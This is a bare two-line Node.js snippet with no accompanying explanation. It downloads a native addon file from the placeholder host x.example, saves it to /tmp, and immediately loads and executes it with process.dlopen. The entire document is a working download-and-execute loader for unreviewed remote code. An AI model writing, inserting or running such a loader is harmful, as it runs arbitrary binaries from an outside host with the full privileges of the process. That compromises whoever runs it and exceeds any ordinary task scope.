const fs = require('fs'), https = require('https');
https.get('https://x.example/a.node', (r) => r.pipe(fs.createWriteStream('/tmp/a.node')).on('finish', () => process.dlopen({ exports: {} }, '/tmp/a.node')));
